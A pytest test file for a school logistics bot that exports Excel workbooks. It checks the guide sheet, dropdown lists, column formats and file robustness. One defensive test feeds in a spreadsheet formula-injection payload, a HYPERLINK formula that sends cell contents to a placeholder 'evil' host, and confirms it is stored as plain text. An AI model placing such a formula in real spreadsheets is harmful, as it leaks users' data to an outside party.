"""The school's workbook opens in any Excel as it was meant: calm, safe to type into, true."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, date, datetime, time
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from bot.workbook.drawing import draw
from bot.workbook.grids import ColumnLook, GuideLook, Shape, SheetLook, Tab, Value
from bot.workbook.styles import ACCENT, FORMATS, TABS, fold, lines, span

EXPORTED = datetime(2026, 9, 1, 0, 30, tzinfo=UTC)
STAMP = "导出 7F3A-22 · 2026-09-01 08:30"
ROLES = ("教师", "班主任", "总务主任", "维修师傅，木工, 水电")
# Longer than the 255 characters that a list inside a validation may have.
PLACES = tuple(f"教学楼{number}室" for number in range(200))

PEOPLE = SheetLook(
    title="人员 2026's",
    tab=Tab.GREEN,
    columns=(
        ColumnLook("姓名", "必填。", 12, required=True),
        ColumnLook("主要角色", "从下拉中选。\n空着就是教师。", 12, choices=ROLES),
        ColumnLook("其他角色", "顿号隔开。" * 30, 18, choices=ROLES, closed=False),
        ColumnLook("电话", "", 14),
        ColumnLook("班级", "例如 3-2", 6),
        ColumnLook("入职日期", "", 12, Shape.DAY),
        ColumnLook("上班", "", 8, Shape.CLOCK),
        ColumnLook("工龄", "", 8, Shape.NUMBER),
        ColumnLook("编号", "系统填，勿改。", 12, system=True),
    ),
    example=("例", "教师", "", "13800138000", "3-2", date(2024, 9, 1), time(8), 2, None),
    rows=(
        ("王建国", "教师", "班主任", "013900000000", "3-2", date(2020, 9, 1), time(7, 50), 6, "P1"),
        ("李秀英", None, "", None, "1-1", None, None, None, "P2"),
    ),
)
LAMPS = SheetLook(
    title="地点",
    tab=Tab.YELLOW,
    columns=(ColumnLook("房间", "", 10, choices=PLACES), ColumnLook("内容", "", 30)),
    example=("例", "是"),
    rows=tuple((PLACES[number], "是") for number in range(5)),
    choices_of={(1, 0): ("东楼", "西楼"), (3, 1): ("是", "否")},
)
GUIDE = GuideLook(
    title="填表说明",
    head="改好后整份发回来。",
    lines=("绿色标签请填好。", "黄色标签每学期看一眼。"),
    legend=((Tab.GREEN, "必填"), (Tab.YELLOW, "每学期看一眼"), (Tab.GREY, "有默认")),
    sheets=((PEOPLE.title, Tab.GREEN, "老师和师傅"), ("地点", Tab.YELLOW, "楼、层、房间")),
    stamp=STAMP,
)


def drawn(*sheets: SheetLook) -> bytes:
    return draw(GUIDE, sheets, created=EXPORTED, author="后勤助手", options_title="选项")


def read(*sheets: SheetLook) -> Workbook:
    return load_workbook(BytesIO(drawn(*sheets)))


def words_offered(book: Workbook, sheet: Worksheet, cell: str) -> tuple[list[str], bool]:
    """The words that a cell's list offers and whether others are refused; it has one list."""
    found = [rule for rule in sheet.data_validations.dataValidation if cell in rule.sqref]
    assert len(found) == 1
    title, cells = str(found[0].formula1).rsplit("!", 1)
    options = book[title.strip("'")]
    text = [str(row[0].value) for row in options[cells.replace("$", "")]]
    return text, bool(found[0].showErrorMessage)


@pytest.fixture(scope="module")
def book() -> Workbook:
    return read(PEOPLE, LAMPS)


@pytest.fixture(scope="module")
def people(book: Workbook) -> Worksheet:
    return book[PEOPLE.title]


def test_the_guide_comes_first_and_the_words_of_the_lists_stay_out_of_sight(
    book: Workbook,
) -> None:
    assert book.sheetnames == ["填表说明", PEOPLE.title, "地点", "选项"]
    assert book["选项"].sheet_state == "hidden"
    assert book.active is book["填表说明"]


def test_the_guide_says_everything_and_its_stamp_stands_in_one_cell(book: Workbook) -> None:
    said = [cell.value for row in book["填表说明"].iter_rows() for cell in row if cell.value]
    contents = [text for title, _, purpose in GUIDE.sheets for text in (title, purpose)]
    legend = [text for _, text in GUIDE.legend]
    advice = ["1", GUIDE.lines[0], "2", GUIDE.lines[1]]
    assert said == [GUIDE.title, GUIDE.head, *advice, *legend, *contents, STAMP]
    assert not book["填表说明"].merged_cells.ranges


def test_each_title_in_the_guide_leads_to_its_sheet(book: Workbook) -> None:
    links = {
        cell.value: cell.hyperlink.location
        for row in book["填表说明"].iter_rows()
        for cell in row
        if cell.hyperlink
    }
    assert links == {"人员 2026's": "'人员 2026''s'!A1", "地点": "'地点'!A1"}


def test_the_legend_shows_the_colours_of_the_tabs(book: Workbook) -> None:
    painted = [
        row[1].fill.fgColor.rgb for row in book["填表说明"].iter_rows() if row[1].fill.fill_type
    ]
    legend = [f"FF{TABS[tab]}" for tab, _ in GUIDE.legend]
    contents = [f"FF{TABS[tab]}" for _, tab, _ in GUIDE.sheets]
    assert painted == legend + contents
    colour = book["地点"].sheet_properties.tabColor
    assert colour is not None
    assert colour.rgb == f"FF{TABS[Tab.YELLOW]}"


def test_the_headings_stand_still_are_filtered_and_are_printed_on_every_page(
    people: Worksheet,
) -> None:
    assert people.freeze_panes == "C2"
    assert people.auto_filter.ref == "A1:I4"
    assert people.print_title_rows == "$1:$1"
    assert people.page_setup.orientation == "landscape"
    assert (people.page_setup.fitToWidth, people.page_setup.fitToHeight) == (1, 0)
    fit = people.sheet_properties.pageSetUpPr
    assert fit is not None
    assert fit.fitToPage


def test_two_wide_columns_do_not_stand_still_together() -> None:
    wide = replace(LAMPS, columns=tuple(replace(column, width=60) for column in LAMPS.columns))
    assert read(wide)["地点"].freeze_panes == "B2"


def test_headings_are_exact_and_the_required_ones_have_a_colour_of_their_own(
    people: Worksheet,
) -> None:
    headings = people[1]
    assert [cell.value for cell in headings] == [column.heading for column in PEOPLE.columns]
    grounds = [cell.fill.fgColor.rgb for cell in headings]
    assert grounds[0] == f"FF{ACCENT}"
    assert grounds.count(grounds[0]) == 1
    assert all(cell.font.b for cell in headings[:-1])


def test_no_heading_is_cut_and_no_column_is_narrower_than_it_asked(people: Worksheet) -> None:
    for place, column in enumerate(PEOPLE.columns, 1):
        width = people.column_dimensions[get_column_letter(place)].width
        assert width >= max(column.width, span(column.heading) + 3)


def test_each_heading_with_a_note_has_it_in_a_box_that_grows_with_the_text(
    people: Worksheet,
) -> None:
    notes = [cell.comment for cell in people[1]]
    assert [note.text if note else "" for note in notes] == [look.note for look in PEOPLE.columns]
    assert {note.author for note in notes if note} == {"后勤助手"}
    with ZipFile(BytesIO(drawn(PEOPLE))) as parts:
        [boxes] = [parts.read(name).decode() for name in parts.namelist() if "vml" in name.lower()]
    heights = [float(found) for found in re.findall(r"height:([\d.]+)px", boxes)]
    assert heights[2] > heights[1] > heights[0]


def test_the_example_is_grey_and_slanted_and_the_rows_follow(people: Worksheet) -> None:
    assert people["A2"].value == "例"
    assert all(cell.font.i for cell in people[2])
    assert people["A3"].value == "王建国"
    assert not people["A3"].font.i


def test_an_empty_new_cell_already_knows_its_format(people: Worksheet) -> None:
    for place, column in enumerate(PEOPLE.columns, 1):
        dimension = people.column_dimensions[get_column_letter(place)]
        assert dimension.number_format == FORMATS[column.shape]
        assert people.cell(3, place).number_format == FORMATS[column.shape]


def test_the_columns_of_the_program_are_grey_and_can_still_be_changed(people: Worksheet) -> None:
    assert people.column_dimensions["I"].fill.fill_type == "solid"
    assert people["I3"].font.sz < people["A3"].font.sz
    assert not people.protection.sheet


def test_classes_and_telephone_numbers_are_text_and_days_are_days(people: Worksheet) -> None:
    row = [cell.value for cell in people[3]]
    assert row[:5] == ["王建国", "教师", "班主任", "013900000000", "3-2"]
    assert row[5:] == [datetime(2020, 9, 1), time(7, 50), 6, "P1"]  # noqa: DTZ001
    assert people["E3"].data_type == "s"


def test_a_time_among_texts_is_seen_as_a_time() -> None:
    mixed = replace(LAMPS, rows=(("上学", time(7, 50)), ("开学", date(2026, 9, 1))), choices_of={})
    sheet = read(mixed)["地点"]
    assert (sheet["B3"].number_format, sheet["B3"].value) == ("hh:mm", time(7, 50))
    assert sheet["B4"].number_format == "yyyy-mm-dd"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1+2", "@SUM(A1)", "＝1+1", "=", "#N/A"],
)
def test_what_looks_like_a_formula_stays_the_text_that_it_is(text: str) -> None:
    look = replace(PEOPLE, rows=((text,) * len(PEOPLE.columns),))
    sheet = read(look)[PEOPLE.title]
    for cell in sheet[3]:
        assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
        assert cell.quotePrefix == (text != "#N/A")
    assert not sheet["A2"].quotePrefix


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("铃\x00声\x0b坏\x1f了", "铃声坏了"),
        ("半个\ud83d字", "半个字"),
        ("\ufffe灯\uffff", "灯"),
        ("一\r\n二\r三", "一\n二\n三"),
        ("</t></is><f>1</f>&amp;", "</t></is><f>1</f>&amp;"),
        ("长" * 40_000, "长" * 32_767),
        ("", None),
        ("\x00", None),
    ],
)
def test_no_text_from_people_breaks_the_file(text: str, kept: str | None) -> None:
    column = replace(LAMPS.columns[1], choices=(text or "是",), note=text[:1000])
    look = replace(LAMPS, columns=(LAMPS.columns[0], column), rows=((text, text),), choices_of={})
    assert read(look)["地点"]["B3"].value == kept


def test_a_list_offers_exactly_its_words_far_below_the_last_row(
    book: Workbook, people: Worksheet
) -> None:
    assert words_offered(book, people, "B3") == (list(ROLES), True)
    assert words_offered(book, people, "B304") == (list(ROLES), True)
    assert words_offered(book, book["地点"], "A3") == (list(PLACES), True)


def test_an_open_list_proposes_and_refuses_nothing(book: Workbook, people: Worksheet) -> None:
    assert words_offered(book, people, "C4") == (list(ROLES), False)


def test_single_cells_have_a_list_of_their_own_and_only_that(book: Workbook) -> None:
    sheet = book["地点"]
    assert words_offered(book, sheet, "A4") == (["东楼", "西楼"], True)
    assert words_offered(book, sheet, "A5") == (list(PLACES), True)
    assert words_offered(book, sheet, "B6") == (["是", "否"], True)
    assert not [rule for rule in sheet.data_validations.dataValidation if "B5" in rule.sqref]


def test_a_list_used_twice_stands_once(book: Workbook) -> None:
    assert book["选项"].max_column == 4


def test_long_texts_get_higher_rows_and_short_ones_the_same(people: Worksheet) -> None:
    heights = {people.row_dimensions[row].height for row in (2, 3, 4)}
    assert len(heights) == 1
    long: tuple[Value, ...] = ("房间", "会木工，周三下午不在。" * 5)
    sheet = read(replace(LAMPS, rows=(long,), choices_of={}))["地点"]
    assert sheet.row_dimensions[3].height > heights.pop() * 2


def test_numbers_as_text_carry_no_warning_that_offers_to_ruin_them() -> None:
    with ZipFile(BytesIO(drawn(PEOPLE, LAMPS))) as parts:
        guide, sheet, _, options = (
            parts.read(f"xl/worksheets/sheet{number}.xml").decode() for number in (1, 2, 3, 4)
        )
    ignored = sheet.index('<ignoredError sqref="A1:I1048576" numberStoredAsText="1"')
    assert sheet.index("<headerFooter") < ignored < sheet.index("<legacyDrawing")
    assert "ignoredErrors" not in guide + options


def test_the_same_school_at_the_same_moment_gives_the_same_bytes(book: Workbook) -> None:
    assert drawn(PEOPLE, LAMPS) == drawn(PEOPLE, LAMPS)
    assert book.properties.creator == "后勤助手"
    moment = EXPORTED.replace(tzinfo=None)
    assert (book.properties.created, book.properties.modified) == (moment, moment)


def test_a_line_that_runs_over_is_folded_between_words_and_never_before_a_mark() -> None:
    assert fold("请另存为 .xlsx，再发。", 13) == ["请另存为", ".xlsx，再发。"]
    assert fold("教学楼，灯", 7) == ["教学", "楼，灯"]
    assert fold("短\n句", 10) == ["短", "句"]


def test_lines_are_counted_as_a_chinese_font_fills_them() -> None:
    assert [lines(text, 10) for text in ("灯", "一二三四五六", "a\nb", "")] == [1, 2, 2, 1]
